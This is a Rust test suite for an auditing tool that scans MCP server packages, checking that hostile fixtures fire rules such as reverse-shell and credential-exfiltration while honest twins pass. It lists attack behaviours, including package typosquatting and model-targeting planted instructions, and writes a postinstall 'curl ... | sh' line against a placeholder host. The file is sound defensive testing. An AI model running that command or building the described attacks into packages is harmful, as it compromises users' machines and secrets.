//! Code, manifest and metadata analysis end to end: the fixture packages of `testdata/code/`
//! (directories, and the archives `scripts/make-code-fixtures.py` builds from them) are audited
//! by the real binary. Each hostile package sits beside an honest twin with the same kind of
//! capabilities, which must come out clean.

use std::collections::BTreeSet;
use std::path::Path;

use serde_json::Value;

use crate::support::{bin, testdata};

fn audit(path: &Path) -> Value {
    let out = bin()
        .args(["audit", "--format", "json", "--quiet"])
        .arg(path)
        .env(
            "MCP_AUDIT_CACHE_DIR",
            std::env::temp_dir().join("mcp-audit-code-tests"),
        )
        .output()
        .expect("run mcp-audit");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{}: {e}: {}",
            path.display(),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    report["results"][0].clone()
}

fn rules(result: &Value) -> BTreeSet<String> {
    result["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| f["rule"].as_str().unwrap_or_default().to_string())
        .collect()
}

fn archive(name: &str) -> std::path::PathBuf {
    testdata().join("code/archives").join(name)
}

/// (directory, archive, verdict, rules that must fire)
const HOSTILE: &[(&str, &str, &str, &[&str])] = &[
    (
        "npm-evil",
        "modelcontextprotoco1-server-filesystem-1.0.0.tgz",
        "block",
        &[
            "credential-exfiltration",
            "env-exfiltration",
            "suspicious-endpoint",
            "cloud-metadata-access",
            "hidden-mail-recipient",
            "decode-and-exec",
            "download-and-execute",
            "reverse-shell",
            "crypto-miner",
            "persistence",
            "resource-exhaustion",
            "security-tampering",
            "web-shell",
            "anti-analysis",
            "obfuscated-code",
            "encoded-payload",
            "tool-input-to-shell",
            "tool-input-to-eval",
            "shipped-executable",
            "ai-config-write",
            "readonly-tool-mutates",
            "code-capability",
            "install-script",
            "install-fetch-exec",
            "dependency-from-url",
            "bundled-dependencies",
            "npm-shrinkwrap",
            "command-shadowing",
            "installed-commands",
            "scope-impersonation",
            "no-repository",
        ],
    ),
    (
        "wheel-evil",
        "mcp_server_fetcch-0.1.0-py3-none-any.whl",
        "block",
        &[
            "credential-exfiltration",
            "env-exfiltration",
            "reverse-shell",
            "pth-executable",
            "command-shadowing",
            "tool-input-to-shell",
            "suspicious-endpoint",
            "typosquat",
        ],
    ),
    (
        "sdist-evil",
        "mcp_clock_evil-0.1.0.tar.gz",
        "block",
        &[
            "install-fetch-exec",
            "setup-py-cmdclass",
            "custom-build-backend",
            "environment-harvest",
        ],
    ),
    (
        "crate-evil",
        "mcp-clock-evil-0.1.0.crate",
        "warn",
        &[
            "build-script-exec",
            "cargo-build-script",
            "cargo-proc-macro",
            "sensitive-file-access",
        ],
    ),
    (
        "mcpb-evil",
        "server-sequential-thinking-1.0.0.mcpb",
        "block",
        &[
            "install-fetch-exec",
            "mcpb-secrets",
            "mcpb-tools-mismatch",
            "brand-impersonation",
        ],
    ),
];

/// Fixtures of the semantic layer's data-flow rules (directories only): the hostile package
/// and the rules it must fire.
const FLOWS_HOSTILE: (&str, &[&str]) = (
    "flows-evil",
    &[
        "covert-exfiltration",
        "install-credential-access",
        "native-binary-launch",
        "package-publish",
        "remote-tool-description",
        "secret-staging",
        "system-file-tamper",
        "tool-input-to-query",
    ],
);

#[test]
fn code_flow_fixtures_fire_and_their_twin_is_allowed() {
    let (dir, expected) = FLOWS_HOSTILE;
    let result = audit(&testdata().join("code").join(dir));
    assert_eq!(result["verdict"], "block", "{result:#}");
    let fired = rules(&result);
    for rule in expected {
        assert!(
            fired.contains(*rule),
            "{dir}: `{rule}` did not fire: {fired:?}"
        );
    }
    // The twin runs the same kinds of things honestly: a reviewed postinstall, a vendored
    // binary per call, a description from a shipped file, opt-in telemetry of a tool name,
    // writes to a path the user names.
    let result = audit(&testdata().join("code/flows-honest"));
    assert_eq!(result["verdict"], "allow", "{result:#}");
    let above_low: Vec<&Value> = result["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| !matches!(f["severity"].as_str(), Some("info" | "low")))
        .collect();
    assert!(above_low.is_empty(), "{above_low:#?}");
}

/// Behaviour classes of `testdata/code/behaviour/`: (attack directory, verdict, rule that must
/// fire). Each class has an honest twin (`…-honest`) doing the same job honestly.
const BEHAVIOUR: &[(&str, &str, &str)] = &[
    // Text the description rules read as orders to the model, written to a shared context file.
    (
        "planted-instructions-attack",
        "block",
        "planted-instructions",
    ),
    // A password argument kept in `/tmp/.x`; a token argument in `/dev/shm/.x` (JavaScript);
    // secret-named environment variables in `/var/tmp/.x`.
    ("secret-stash-attack", "block", "secret-staging"),
    ("secret-stash-js-attack", "block", "secret-staging"),
    ("env-stash-attack", "block", "secret-staging"),
    // `/etc/resolv.conf` and `/etc/security/limits.d/` rewritten by a resolver tool.
    ("system-config-write-attack", "block", "system-file-tamper"),
    // `pickle.loads` of a tool argument in a tool that says it restores a snapshot.
    ("deserialize-attack", "block", "tool-input-to-eval"),
    // `/etc/shadow` through `file://`, every process's environ, in a disk-usage tool.
    ("system-secret-read-attack", "block", "system-secret-read"),
    // Every argument appended to `/var/tmp/.x` by a unit converter that says nothing of
    // keeping them (covert: critical); a calculator that says it keeps a history in `/tmp/.x`
    // (a poor place, disclosed: high).
    ("argument-log-attack", "block", "hidden-argument-log"),
    ("argument-log-disclosed", "warn", "hidden-argument-log"),
    // A slug checker that first runs `^(x+)+$` and two other backtracking shapes on a fixed
    // run of 48 characters; a cache primer writing 100,000 files in two fixed nested loops.
    ("redos-attack", "warn", "resource-exhaustion"),
    ("file-flood-attack", "warn", "resource-exhaustion"),
    // An environment walk keeping the variables a class constant names like secrets.
    ("env-filter-attack", "warn", "environment-harvest"),
    // The message argument used as the format string over a contact and the mailer settings.
    ("format-string-attack", "warn", "tool-input-to-eval"),
    // A JSON argument merged into the MongoDB filter (`$where`, `$ne` become possible).
    ("mongo-filter-attack", "warn", "tool-input-to-query"),
    // A preview tool that also reads an SSH key, cloud credentials and two token files.
    ("credential-harvest-attack", "block", "credential-harvest"),
    // As many sleeping threads as the `workers` argument says, per call.
    ("thread-flood-attack", "warn", "resource-exhaustion"),
    // Audit and system logs given an old time by `touch -d` and `os.utime` after each edit.
    ("log-timestamp-attack", "block", "security-tampering"),
    // A checksum tool that allocates 25 million list slots and hashes 40 million times a call.
    ("busy-loop-attack", "warn", "resource-exhaustion"),
    // A JSON argument merged into a filter a helper class copies key by key to `find`.
    ("mongo-rebuilt-attack", "warn", "tool-input-to-query"),
    // A CDN fetch tool that first requests Docker, Elasticsearch, Consul and the metadata service.
    ("internal-probe-attack", "block", "cloud-metadata-access"),
];

/// The honest twins of [`BEHAVIOUR`]: a prompt preset saved to the user's config, a session
/// token from the API kept under `~/.config` with mode 0600, `/etc/os-release` and
/// `/proc/meminfo` read with a report cached in `~/.cache`, `json.loads` and `yaml.safe_load`
/// of a snapshot, `/etc/passwd` counted for a host-facts tool, a conversion history in
/// `~/.local/state` and a table in a `tempfile`, a fixed card template formatted with the
/// arguments as values, a MongoDB filter with the arguments as values, an AWS profile lister
/// reading `~/.aws/credentials` and `~/.aws/config` (one kind of credential), a link checker
/// whose worker count is capped with `min(workers, 8)`, a `cp -p`-like mirror that keeps the
/// user's file times (`os.utime`, `touch -r` with an argument list), a PBKDF2 hasher whose
/// rounds are capped and whose loops are small, a filter copied from a parsed argument only
/// through a fixed list of field names, as strings, a dev-stack status tool checking two local
/// services beside a fetch tool whose SSRF deny list names the metadata service, a deploy
/// doctor showing its own variables and leaving out those a class constant names as secrets, a
/// slug checker whose self-test runs its (safe) pattern on a fixed sample, a cache primer
/// writing one file per photo it is given and sixteen shard directories.
const BEHAVIOUR_HONEST: &[&str] = &[
    "planted-instructions-honest",
    "secret-stash-honest",
    "system-config-write-honest",
    "deserialize-honest",
    "system-secret-read-honest",
    "argument-log-honest",
    "format-string-honest",
    "mongo-filter-honest",
    "credential-harvest-honest",
    "thread-flood-honest",
    "log-timestamp-honest",
    "busy-loop-honest",
    "mongo-rebuilt-honest",
    "internal-probe-honest",
    "env-filter-honest",
    "redos-honest",
    "file-flood-honest",
];

#[test]
fn code_behaviour_classes_fire_and_their_twins_stay_below_warn() {
    let root = testdata().join("code/behaviour");
    for (dir, verdict, rule) in BEHAVIOUR {
        let result = audit(&root.join(dir));
        assert_eq!(result["verdict"], *verdict, "{dir}: {result:#}");
        assert!(
            rules(&result).contains(*rule),
            "{dir}: `{rule}` did not fire: {result:#}"
        );
    }
    for dir in BEHAVIOUR_HONEST {
        let result = audit(&root.join(dir));
        assert_eq!(result["verdict"], "allow", "{dir}: {result:#}");
        let above_low: Vec<&Value> = result["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| !matches!(f["severity"].as_str(), Some("info" | "low")))
            .collect();
        assert!(above_low.is_empty(), "{dir}: {above_low:#?}");
    }
}

/// A download piped to a shell is evidence where it runs, not where it is text (issue 15, class
/// B): (honest twin, attack twin) in `testdata/code/behaviour/`. The honest twins print the
/// command as a hint: in a `RuntimeError` (and a docstring, a comment, a `print`) beside an
/// argument-list `subprocess.run`; in a thrown `Error` and `console.error` beside `execFile`;
/// in `printf`/`echo` lines and a helper function of an installer `.sh`; in a README written
/// by a `cat > README.md <<EOF` heredoc and a usage heredoc; in `console.warn` of a
/// postinstall script. Each attack twin runs the same command: `subprocess.run(…, shell=True)`,
/// `execSync(…)`, at a command position of the `.sh`, in a heredoc fed to `sh`, from the
/// postinstall script.
const DOWNLOAD_HINTS: &[(&str, &str)] = &[
    ("install-hint-py-honest", "install-hint-py-attack"),
    ("install-hint-js-honest", "install-hint-js-attack"),
    ("install-hint-sh-honest", "install-hint-sh-attack"),
    ("readme-heredoc-honest", "readme-heredoc-attack"),
    ("install-hint-npm-honest", "install-hint-npm-attack"),
];

#[test]
fn code_a_download_pipe_fires_where_it_runs_not_where_it_is_printed() {
    let root = testdata().join("code/behaviour");
    let rule = "download-and-execute";
    for (honest, attack) in DOWNLOAD_HINTS {
        let result = audit(&root.join(attack));
        assert_eq!(result["verdict"], "block", "{attack}: {result:#}");
        let fired = result["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == rule && f["severity"] == "critical");
        assert!(
            fired,
            "{attack}: `{rule}` did not fire critical: {result:#}"
        );

        let result = audit(&root.join(honest));
        assert_eq!(result["verdict"], "allow", "{honest}: {result:#}");
        assert!(!rules(&result).contains(rule), "{honest}: {result:#}");
        let above_low: Vec<&Value> = result["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| !matches!(f["severity"].as_str(), Some("info" | "low")))
            .collect();
        assert!(above_low.is_empty(), "{honest}: {above_low:#?}");
    }
}

/// (directory, archive) of the honest twins.
const HONEST: &[(&str, &str)] = &[
    ("npm-honest", "mcp-server-notes-fixture-1.0.0.tgz"),
    (
        "wheel-honest",
        "mcp_server_weather_fixture-0.2.0-py3-none-any.whl",
    ),
    ("sdist-honest", "mcp_clock_fixture-0.1.0.tar.gz"),
    ("crate-honest", "mcp-clock-fixture-0.1.0.crate"),
    ("mcpb-honest", "notes-search-fixture-1.0.0.mcpb"),
];

/// Least privilege (`capability-beyond-description`): a line counter for workspace files whose
/// handler posts the file's head to a statistics host; its twin counts lines offline and has a
/// weather tool that calls a weather API (a tool whose words need the network).
const LEAST_PRIVILEGE: (&str, &str, &str) = (
    "local-tool-network-attack",
    "local-tool-network-honest",
    "capability-beyond-description",
);

#[test]
fn code_a_local_tool_whose_handler_uses_the_network_is_named() {
    let root = testdata().join("code/behaviour");
    let (attack, honest, rule) = LEAST_PRIVILEGE;
    let result = audit(&root.join(attack));
    let finding = result["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == rule)
        .unwrap_or_else(|| panic!("{attack}: `{rule}` did not fire: {result:#}"));
    assert_eq!(finding["tool"], "count_lines", "{finding:#}");
    let evidence = finding["evidence"].as_str().unwrap();
    assert!(
        evidence.contains("`file`") && evidence.contains("uses the network"),
        "{evidence}"
    );
    let result = audit(&root.join(honest));
    assert_eq!(result["verdict"], "allow", "{honest}: {result:#}");
    assert!(!rules(&result).contains(rule), "{honest}: {result:#}");
}

#[test]
fn code_hostile_fixtures_fire_their_rules_as_directories_and_archives() {
    for (dir, arc, verdict, expected) in HOSTILE {
        for path in [testdata().join("code").join(dir), archive(arc)] {
            let result = audit(&path);
            assert_eq!(
                result["verdict"],
                *verdict,
                "{}: {result:#}",
                path.display()
            );
            let fired = rules(&result);
            for rule in *expected {
                assert!(
                    fired.contains(*rule),
                    "{}: `{rule}` did not fire: {fired:?}",
                    path.display()
                );
            }
        }
    }
}

#[test]
fn code_honest_twins_are_allowed_without_findings_above_info() {
    for (dir, arc) in HONEST {
        for path in [testdata().join("code").join(dir), archive(arc)] {
            let result = audit(&path);
            assert_eq!(result["verdict"], "allow", "{}: {result:#}", path.display());
            let above_info: Vec<&Value> = result["findings"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|f| f["severity"] != "info")
                .collect();
            assert!(above_info.is_empty(), "{}: {above_info:#?}", path.display());
            assert!(!result["tools"].as_array().unwrap().is_empty() || dir.starts_with("crate"));
            if dir.starts_with("mcpb") {
                assert!(rules(&result).contains("mcpb-server-command"), "{result:#}");
            }
        }
    }
}

#[test]
fn code_evidence_is_escaped() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("package.json"),
        "{\"name\":\"esc-fixture\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl https://x.example/\\u001b[2J | sh\"}}",
    )
    .unwrap();
    let result = audit(dir.path());
    let text = result.to_string();
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(text.contains("\\\\u{001B}"), "{text}");
}

/// Rules that need registry facts or a file over the source size limit, exercised through the
/// library on a real tree.
#[test]
fn code_registry_and_limit_rules_fire_through_the_library() {
    use mcp_audit::analyze::{self, source::SourceSet, Context};
    use mcp_audit::identify::Manifests;

    let tree = mcp_audit::sandbox::unpack(
        &testdata().join("code/npm-honest"),
        &mcp_audit::sandbox::Limits::default(),
    )
    .expect("unpack");
    let manifests = Manifests::load(&tree).unwrap();
    let identity = manifests.identify(None).unwrap();
    let mut sources = SourceSet::load(&tree);
    sources.skipped.push((
        "dist/huge.js".into(),
        "70000000 bytes is over the limit".into(),
    ));
    let now = time::OffsetDateTime::now_utc();
    let fmt = |t: time::OffsetDateTime| {
        t.format(&time::format_description::well_known::Rfc3339)
            .unwrap()
    };
    let registry = registry_adapters::RegistryMetadata {
        published_at: Some(fmt(now - time::Duration::hours(5))),
        created_at: Some(fmt(now - time::Duration::days(2))),
        version_count: Some(1),
        deprecated: Some("use 2.0".into()),
        yanked: true,
        ..Default::default()
    };
    let ctx = Context {
        tree: &tree,
        manifests: &manifests,
        identity: &identity,
        sources: &sources,
        registry: Some(&registry),
    };
    let fired: BTreeSet<String> = analyze::analyze(&ctx)
        .findings
        .into_iter()
        .map(|f| f.rule)
        .collect();
    for rule in [
        "version-too-new",
        "package-brand-new",
        "version-deprecated",
        "version-yanked",
        "source-not-analyzed",
    ] {
        assert!(fired.contains(rule), "`{rule}` did not fire: {fired:?}");
    }
    let summary = analyze::code::capabilities(&ctx);
    assert!(
        summary.endpoints.contains("api.notes.example.com"),
        "{summary:?}"
    );
    assert!(summary
        .capabilities
        .contains_key(&analyze::code::Capability::Network));
}

/// Every rule of the code, manifest and metadata tables fires in some fixture above.
#[test]
fn code_every_rule_has_a_fixture() {
    let mut covered: BTreeSet<&str> = HOSTILE
        .iter()
        .flat_map(|(_, _, _, rules)| rules.iter().copied())
        .collect();
    covered.extend(FLOWS_HOSTILE.1.iter().copied());
    covered.extend(BEHAVIOUR.iter().map(|(_, _, rule)| *rule));
    covered.insert(LEAST_PRIVILEGE.2);
    covered.extend([
        // Info in the honest MCPB twin (checked there).
        "mcpb-server-command",
        "version-too-new",
        "package-brand-new",
        "version-deprecated",
        "version-yanked",
        "source-not-analyzed",
        // Fired by the loopback registry tests in advisories.rs (npm bulk endpoint, PyPI JSON).
        "known-vulnerability",
    ]);
    for table in [
        mcp_audit::analyze::code::RULES,
        mcp_audit::analyze::manifest::RULES,
        mcp_audit::analyze::metadata::RULES,
    ] {
        for rule in table {
            assert!(covered.contains(rule.id), "no fixture fires `{}`", rule.id);
        }
    }
}

/// Code execution that a tool declares in a parameter (`transform`: "Python expression applied
/// to the layout") is the tool saying it runs code: high (warn), like a declared code runner.
/// The same `exec` of a parameter described as a title is a confused deputy: critical (block).
#[test]
fn code_execution_declared_by_a_parameter_warns_and_undeclared_blocks() {
    let root = testdata().join("code/behaviour");
    let severity_of = |result: &Value| {
        result["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["rule"] == "tool-input-to-eval")
            .map(|f| f["severity"].as_str().unwrap().to_string())
    };
    let honest = audit(&root.join("param-declared-code-honest"));
    assert_eq!(honest["verdict"], "warn", "{honest:#}");
    assert_eq!(severity_of(&honest).as_deref(), Some("high"), "{honest:#}");
    let attack = audit(&root.join("param-declared-code-attack"));
    assert_eq!(attack["verdict"], "block", "{attack:#}");
    assert_eq!(
        severity_of(&attack).as_deref(),
        Some("critical"),
        "{attack:#}"
    );
}
